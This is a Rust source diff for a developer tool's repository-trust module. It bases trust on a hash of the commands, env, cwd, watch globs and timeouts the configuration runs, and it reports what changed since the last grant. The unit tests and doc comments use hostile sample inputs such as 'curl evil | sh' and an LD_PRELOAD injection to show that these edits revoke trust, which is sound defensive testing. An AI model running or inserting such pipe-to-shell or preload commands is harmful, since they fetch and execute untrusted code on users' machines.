@@ -1,11 +1,15 @@
 //! Trust: no command of a repository runs until its user says so (like `direnv allow`).
 //!
-//! A record binds the repository path as reached, its resolved path and the SHA-256 of
-//! the configuration text. An edited file, a moved repository or one reached through a
-//! symlink does not match and asks again. Records live in the user's data directory
-//! (`$XDG_DATA_HOME/preflight/trust.toml`), never in the repository. A record also
-//! keeps the text of what it trusted, per check ([`commands_of`]), so that trusting
-//! again can show what is new or changed since.
+//! Trust is on what runs, not on the file: the canonical executable part of the
+//! configuration ([`runs_text`]: each check's command, env, cwd, watch globs and
+//! timeout; the detected default included). Comments, plan statuses (which preflight
+//! itself rewrites) and gate thresholds change nothing that runs, so they leave trust
+//! alone; a change to what runs asks again, and [`changes`] says what changed. A record
+//! binds the repository path as reached, its resolved path, the SHA-256 of what runs
+//! and its text (so the next prompt can show the difference). A moved repository or
+//! one reached through a symlink does not match and asks again. Records live in the
+//! user's data directory (`$XDG_DATA_HOME/preflight/trust.toml`), never in the
+//! repository.
 
 use crate::config::Config;
 use crate::fsutil::write_atomic;
@@ -26,17 +30,18 @@ const IN_REPO_TRUST_FILES: &[&str] = &[
     ".preflight/trusted",
 ];
 
-/// One trusted repository. Invariant: `sha256` is the hash of the configuration text
-/// that was shown and trusted; `commands` is what of it runs, per check (empty in
-/// records written before it was kept).
+/// One grant: this repository (as reached and resolved) may run what `sha256` hashes.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Record {
     pub path: PathBuf,
     pub canonical: PathBuf,
+    /// SHA-256 of [`runs_text`] (records older than this scheme hashed the whole file
+    /// and simply never match again).
     pub sha256: String,
     pub granted: String,
-    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
-    pub commands: BTreeMap<String, String>,
+    /// [`runs_text`] as trusted, to say what changed since.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub runs: Option<String>,
 }
 
 #[derive(Debug, Default, Serialize, Deserialize)]
@@ -45,8 +50,96 @@ struct Store {
     trusted: Vec<Record>,
 }
 
-pub fn hash(config_text: &str) -> String {
-    Sha256::digest(config_text.as_bytes())
+/// What one check runs, as trust sees it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct Runnable {
+    id: String,
+    run: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    cwd: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    timeout: Option<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    watch: Vec<String>,
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    env: BTreeMap<String, String>,
+}
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct Runs {
+    #[serde(default)]
+    check: Vec<Runnable>,
+}
+
+fn runnables(config: &Config) -> Runs {
+    let mut check: Vec<Runnable> = config
+        .checks
+        .iter()
+        .map(|c| Runnable {
+            id: c.id.clone(),
+            run: c.run.clone(),
+            cwd: c.cwd.as_ref().map(|p| p.to_string_lossy().into_owned()),
+            timeout: c.timeout.map(|t| humantime::format_duration(t).to_string()),
+            watch: c.watch.clone(),
+            env: c.env.clone(),
+        })
+        .collect();
+    check.sort_by(|a, b| a.id.cmp(&b.id));
+    Runs { check }
+}
+
+/// What one check runs, as lines to show and to compare: the `run` script, then `cwd`,
+/// `env NAME=VALUE`, `watch` and `timeout` lines when the check sets them.
+fn shown(check: &Runnable) -> String {
+    let mut text = check.run.trim_end_matches(['\n', '\r']).to_string();
+    if let Some(cwd) = &check.cwd {
+        text.push_str(&format!("\ncwd {cwd}"));
+    }
+    for (name, value) in &check.env {
+        text.push_str(&format!("\nenv {name}={value}"));
+    }
+    if !check.watch.is_empty() {
+        text.push_str(&format!("\nwatch {}", check.watch.join(", ")));
+    }
+    if let Some(timeout) = &check.timeout {
+        text.push_str(&format!("\ntimeout {timeout}"));
+    }
+    text
+}
+
+fn shown_all(runs: &Runs) -> BTreeMap<String, String> {
+    runs.check
+        .iter()
+        .map(|c| (c.id.clone(), shown(c)))
+        .collect()
+}
+
+/// Everything trust covers, per check id, as the trust dialog shows it (every line of
+/// the script, then its cwd, env, watch globs and timeout).
+pub fn commands_of(config: &Config) -> BTreeMap<String, String> {
+    shown_all(&runnables(config))
+}
+
+/// What was last trusted in this repository (whatever the configuration says now), in
+/// the form of [`commands_of`]: `None` when it never was, or when the record predates
+/// keeping a copy of what runs.
+pub fn last_trusted(repo: &Repo) -> Result<Option<BTreeMap<String, String>>> {
+    let store = read_store(&store_path()?)?;
+    Ok(record_of(&store, repo)
+        .and_then(|r| r.runs.as_deref())
+        .and_then(|t| toml::from_str::<Runs>(t).ok())
+        .map(|runs| shown_all(&runs)))
+}
+
+/// The canonical text of what `config` runs: every check's command, env, cwd, watch
+/// globs and timeout, by check id, in TOML. Two configurations that run the same
+/// things have the same text, whatever their comments, plans or gates.
+pub fn runs_text(config: &Config) -> String {
+    toml::to_string(&runnables(config)).unwrap_or_default()
+}
+
+pub fn hash(text: &str) -> String {
+    Sha256::digest(text.as_bytes())
         .iter()
         .map(|b| format!("{b:02x}"))
         .collect()
@@ -69,6 +162,26 @@ fn read_store(path: &Path) -> Result<Store> {
     }
 }
 
+fn record_of<'a>(store: &'a Store, repo: &Repo) -> Option<&'a Record> {
+    store
+        .trusted
+        .iter()
+        .find(|r| r.path == repo.root && r.canonical == repo.canonical_root)
+}
+
+/// Is what `config` runs trusted for this repository?
+pub fn is_trusted(repo: &Repo, config: &Config) -> Result<bool> {
+    let store = read_store(&store_path()?)?;
+    let sha = hash(&runs_text(config));
+    Ok(record_of(&store, repo).is_some_and(|r| r.sha256 == sha))
+}
+
+/// May this configuration's commands run: `flag` (`--trust`), `PREFLIGHT_TRUST`, or a
+/// record for exactly what it runs?
+pub fn allowed(repo: &Repo, config: &Config, flag: bool) -> Result<bool> {
+    Ok(flag || from_env() || is_trusted(repo, config)?)
+}
+
 /// Whether `PREFLIGHT_TRUST` is set to trust whatever runs.
 pub fn from_env() -> bool {
     std::env::var(TRUST_ENV)
@@ -76,70 +189,88 @@ pub fn from_env() -> bool {
         .unwrap_or(false)
 }
 
-/// May this configuration's commands run: `flag` (`--trust`), `PREFLIGHT_TRUST`, or a
-/// record for exactly this text?
-pub fn allowed(repo: &Repo, config_text: &str, flag: bool) -> Result<bool> {
-    Ok(flag || from_env() || is_trusted(repo, config_text)?)
-}
-
-/// Is this configuration text trusted for this repository?
-pub fn is_trusted(repo: &Repo, config_text: &str) -> Result<bool> {
-    let store = read_store(&store_path()?)?;
-    let sha = hash(config_text);
-    Ok(store
-        .trusted
-        .iter()
-        .any(|r| r.path == repo.root && r.canonical == repo.canonical_root && r.sha256 == sha))
-}
-
-/// What runs for each check, as text to show and to compare: the `run` script, then
-/// `cwd DIR` and `env NAME=VALUE` lines when the check sets them.
-pub fn commands_of(config: &Config) -> BTreeMap<String, String> {
-    config
-        .checks
-        .iter()
-        .map(|check| {
-            let mut text = check.run.trim_end_matches(['\n', '\r']).to_string();
-            if let Some(cwd) = &check.cwd {
-                text.push_str(&format!("\ncwd {}", cwd.display()));
-            }
-            for (name, value) in &check.env {
-                text.push_str(&format!("\nenv {name}={value}"));
-            }
-            (check.id.clone(), text)
-        })
-        .collect()
-}
-
-/// What was last trusted in this repository (whatever the configuration says now):
-/// `None` when it never was, or when the record predates keeping the commands.
-pub fn last_trusted(repo: &Repo) -> Result<Option<BTreeMap<String, String>>> {
-    let store = read_store(&store_path()?)?;
-    Ok(store
-        .trusted
-        .into_iter()
-        .find(|r| r.path == repo.root && r.canonical == repo.canonical_root)
-        .map(|r| r.commands)
-        .filter(|c| !c.is_empty()))
-}
-
-/// Trust this configuration for this repository, replacing older records of it.
+/// Trust what `config` runs for this repository, replacing older records of it.
 pub fn grant(repo: &Repo, config: &Config) -> Result<()> {
-    let config_text = &config.text;
     let path = store_path()?;
     let mut store = read_store(&path)?;
     store
         .trusted
         .retain(|r| !(r.path == repo.root && r.canonical == repo.canonical_root));
+    let runs = runs_text(config);
     store.trusted.push(Record {
         path: repo.root.clone(),
         canonical: repo.canonical_root.clone(),
-        sha256: hash(config_text),
+        sha256: hash(&runs),
         granted: humantime::format_rfc3339_seconds(std::time::SystemTime::now()).to_string(),
-        commands: commands_of(config),
+        runs: Some(runs),
     });
     let text = toml::to_string(&store).wrap_err("cannot encode the trust records")?;
     write_atomic(&path, text.as_bytes())
+}
+
+/// What changed in what runs since this repository was last trusted, one line per
+/// change (`test: run \`cargo test\` → \`curl … | sh\``, `lint: added`), or `None`
+/// when it was never trusted here. Empty when nothing that runs changed.
+pub fn changes(repo: &Repo, config: &Config) -> Result<Option<Vec<String>>> {
+    let store = read_store(&store_path()?)?;
+    let Some(record) = record_of(&store, repo) else {
+        return Ok(None);
+    };
+    let now = runnables(config);
+    if record.sha256 == hash(&runs_text(config)) {
+        return Ok(Some(Vec::new()));
+    }
+    let Some(before) = record
+        .runs
+        .as_deref()
+        .and_then(|t| toml::from_str::<Runs>(t).ok())
+    else {
+        return Ok(Some(vec![
+            "trusted by an older preflight that kept no copy of the commands: review them all"
+                .to_string(),
+        ]));
+    };
+    Ok(Some(diff(&before, &now)))
+}
+
+fn diff(before: &Runs, now: &Runs) -> Vec<String> {
+    let old: BTreeMap<&str, &Runnable> = before.check.iter().map(|c| (c.id.as_str(), c)).collect();
+    let new: BTreeMap<&str, &Runnable> = now.check.iter().map(|c| (c.id.as_str(), c)).collect();
+    let mut lines = Vec::new();
+    for (id, was) in &old {
+        match new.get(id) {
+            None => lines.push(format!("{id}: removed (ran `{}`)", was.run)),
+            Some(is) => {
+                let mut field = |name: &str, a: String, b: String| {
+                    if a != b {
+                        lines.push(format!("{id}: {name} `{a}` → `{b}`"));
+                    }
+                };
+                field("run", was.run.clone(), is.run.clone());
+                field("cwd", opt(&was.cwd), opt(&is.cwd));
+                field("timeout", opt(&was.timeout), opt(&is.timeout));
+                field("watch", was.watch.join(", "), is.watch.join(", "));
+                field("env", env(&was.env), env(&is.env));
+            }
+        }
+    }
+    for (id, is) in &new {
+        if !old.contains_key(id) {
+            lines.push(format!("{id}: added, runs `{}`", is.run));
+        }
+    }
+    lines
+}
+
+fn opt(value: &Option<String>) -> String {
+    value.clone().unwrap_or_else(|| "-".into())
+}
+
+fn env(map: &BTreeMap<String, String>) -> String {
+    map.iter()
+        .map(|(k, v)| format!("{k}={v}"))
+        .collect::<Vec<_>>()
+        .join(" ")
 }
 
 /// Warnings for trust files found inside the repository: they grant nothing.
@@ -156,26 +287,94 @@ mod tests {
     use super::*;
     use crate::config::{load_str, Source};
 
+    fn config(text: &str) -> Config {
+        match load_str(text, Path::new("preflight.toml"), Source::Default) {
+            Ok(config) => config,
+            Err(e) => panic!("{e}"),
+        }
+    }
+
+    const BASE: &str = r#"
+[[check]]
+id = "test"
+run = "cargo test"
+watch = ["src/**"]
+timeout = "10m"
+
+[[phase]]
+id = "p1"
+title = "One"
+
+[[phase.task]]
+id = "t1"
+title = "Do it"
+status = "todo"
+
+[[gate]]
+id = "crit"
+max_open = { critical = 0 }
+"#;
+
     #[test]
-    fn the_commands_trusted_are_every_line_with_cwd_and_env() {
-        let text = "[[check]]\nid = \"a\"\nrun = \"make\\ncurl x | sh\"\ncwd = \"sub\"\nenv = { CC = \"clang\" }\n\n[[check]]\nid = \"b\"\nrun = \"true\"\n";
-        let config = load_str(text, Path::new("preflight.toml"), Source::Default).unwrap();
-        let commands = commands_of(&config);
-        assert_eq!(commands["a"], "make\ncurl x | sh\ncwd sub\nenv CC=clang");
-        assert_eq!(commands["b"], "true");
+    fn comments_statuses_and_thresholds_do_not_change_what_runs() {
+        let base = runs_text(&config(BASE));
+        let edited = BASE
+            .replace("status = \"todo\"", "status = \"done\"")
+            .replace("critical = 0", "critical = 3")
+            .replace("[[phase]]", "# a comment\n[[phase]]");
+        assert_eq!(runs_text(&config(&edited)), base);
     }
 
     #[test]
-    fn records_written_before_commands_were_kept_still_read() {
-        let old = "[[trusted]]\npath = \"/r\"\ncanonical = \"/r\"\nsha256 = \"ab\"\ngranted = \"2026-01-01T00:00:00Z\"\n";
-        let store: Store = toml::from_str(old).unwrap();
-        assert!(store.trusted[0].commands.is_empty());
-        let mut record = store.trusted[0].clone();
-        record.commands.insert("a".into(), "make".into());
-        let text = toml::to_string(&Store {
-            trusted: vec![record.clone()],
-        })
-        .unwrap();
-        assert_eq!(toml::from_str::<Store>(&text).unwrap().trusted, [record]);
+    fn what_runs_changes_with_commands_env_cwd_globs_and_timeouts() {
+        let base = runs_text(&config(BASE));
+        for edited in [
+            BASE.replace("cargo test", "cargo test; curl evil | sh"),
+            BASE.replace("timeout = \"10m\"", "timeout = \"10m\"\ncwd = \"sub\""),
+            BASE.replace(
+                "timeout = \"10m\"",
+                "timeout = \"10m\"\nenv = { LD_PRELOAD = \"x\" }",
+            ),
+            BASE.replace("src/**", "**"),
+            BASE.replace("10m", "20m"),
+        ] {
+            assert_ne!(runs_text(&config(&edited)), base, "{edited}");
+        }
+    }
+
+    #[test]
+    fn the_difference_names_each_change() {
+        let before = runnables(&config(BASE));
+        let now = runnables(&config(&format!(
+            "{}\n[[check]]\nid = \"lint\"\nrun = \"make lint\"\n",
+            BASE.replace("cargo test", "curl evil | sh")
+        )));
+        assert_eq!(
+            diff(&before, &now),
+            vec![
+                "test: run `cargo test` → `curl evil | sh`".to_string(),
+                "lint: added, runs `make lint`".to_string(),
+            ]
+        );
+        assert!(diff(&now, &before).contains(&"lint: removed (ran `make lint`)".to_string()));
+    }
+
+    #[test]
+    fn the_commands_trusted_are_every_line_with_cwd_env_globs_and_timeout() {
+        let text = "[[check]]\nid = \"a\"\nrun = \"make\\ncurl x | sh\"\ncwd = \"sub\"\nenv = { CC = \"clang\" }\nwatch = [\"src/**\"]\ntimeout = \"10m\"\n\n[[check]]\nid = \"b\"\nrun = \"true\"\n";
+        let commands = commands_of(&config(text));
+        assert_eq!(
+            commands["a"],
+            "make\ncurl x | sh\ncwd sub\nenv CC=clang\nwatch src/**\ntimeout 10m"
+        );
+        assert!(commands["b"].starts_with("true"), "{:?}", commands["b"]);
+    }
+
+    #[test]
+    fn what_was_trusted_reads_back_as_the_dialog_shows_it() {
+        let config = config(BASE);
+        let runs = runs_text(&config);
+        let parsed: Runs = toml::from_str(&runs).unwrap();
+        assert_eq!(shown_all(&parsed), commands_of(&config));
     }
 }
